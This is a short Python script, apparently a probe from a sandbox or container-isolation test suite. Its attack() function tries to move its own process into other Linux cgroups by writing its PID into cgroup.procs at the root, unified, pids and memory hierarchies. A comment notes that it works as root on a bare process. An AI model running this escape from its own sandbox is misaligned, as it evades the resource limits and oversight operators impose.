"""Writes itself into another control group."""
# works at: bare process (root)
import os


def attack():
    joined = []
    for folder in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory"):
        try:
            with open(os.path.join(folder, "cgroup.procs"), "w") as file:
                file.write(str(os.getpid()))
            joined.append(folder)
        except OSError:
            continue
    return joined
